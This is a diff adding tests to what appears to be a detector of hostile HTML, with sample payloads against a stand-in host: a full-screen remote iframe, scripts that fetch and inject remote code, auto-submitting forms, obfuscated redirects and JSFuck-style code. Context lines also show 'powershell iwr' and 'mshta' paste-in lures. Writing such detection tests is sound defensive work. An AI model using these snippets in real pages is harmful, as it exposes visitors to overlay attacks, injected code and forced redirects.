@@ -33,6 +33,57 @@ import Testing
     #expect(rules("<html><script>// see import notes\nvar a = 1</script>") == ["html.script"])
   }
 
+  @Test func `a frame over all else hides the text that stands below it`() {
+    let text = String(repeating: "What was said at the meeting. ", count: 10)
+    func page(_ style: String) -> String {
+      "<html><iframe src='https://evil.example/' style='\(style)'></iframe><p>\(text)</html>"
+    }
+    #expect(rules(page("position: fixed; inset: 0; width: 100%")) == ["html.remote-frame"])
+    #expect(rules(page("position:absolute;height:100vh")) == ["html.remote-frame"])
+    #expect(rules(page("width: 100%; height: 400px")) == [])
+  }
+
+  @Test(arguments: [
+    "fetch('https://evil.example/x').then(r => r.text()).then(t => document.write(t))",
+    "x.open('GET', 'https://evil.example/x'); x.onload = () => { b.innerHTML = x.responseText }",
+    "new WebSocket('wss://evil.example').onmessage = e => { document.body.innerHTML = e.data }",
+    "var s = document.createElement('script'); s.src = '//evil.example/x.js'",
+    "var s = document.createElement('script'); s.setAttribute('src', a)",
+    "import x from 'https://evil.example/a.js'; x()",
+  ])
+  func `a script that puts in what it fetches is told`(script: String) {
+    #expect(rules("<html><script>\(script)</script></html>").contains("html.remote-script"))
+  }
+
+  @Test(arguments: [
+    "// taken from https://code.example/a\nvar a = 1", "fetch('data.json').then(draw)",
+    "document.createElement('script').text = 'a'", "form.onsubmit = check",
+    "document.getElementById('tab').click()",
+  ])
+  func `a script that stays at home is not`(script: String) {
+    let links = "<a href='https://a.example'>a</a><a href='https://b.example'>b</a>"
+    #expect(rules("<html>\(links)<script>\(script)</script></html>") == ["html.script"])
+  }
+
+  @Test(arguments: [
+    "<form id=f action='https://evil.example'></form><script>f.submit()</script>",
+    "<body onload='document.forms[0].submit()'><form action='//evil.example'></form>",
+    "<a id=a href='https://evil.example'></a><script>a.click()</script>",
+    "<script>m.httpEquiv = 'refresh'; m.content = '0;url=https://evil.example'</script>",
+    "<script>window['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e'] = u</script>",
+    "<script>open(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'), '_self')</script>",
+  ])
+  func `a page that leaves for another by itself is told`(page: String) {
+    #expect(rules("<html>\(page)</html>").contains("html.script-redirect"))
+  }
+
+  @Test func `a script of brackets and signs alone hides what it does`() {
+    let code = String(repeating: "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", count: 20)
+    #expect(rules("<html><script>\(code)</script></html>") == ["html.hidden-code"])
+    let table = String(repeating: "t[0][1] = [[a, b], [c, d]];", count: 20)
+    #expect(rules("<html><script>\(table)</script></html>") == ["html.script"])
+  }
+
   @Test(arguments: [
     "<p>Copy this line into the address bar of File Explorer:</p><code>powershell iwr https://x",
     "<p><b>Windows</b> + <b>R</b> を押し、貼り付けてください。</p>mshta https://x.example/a",
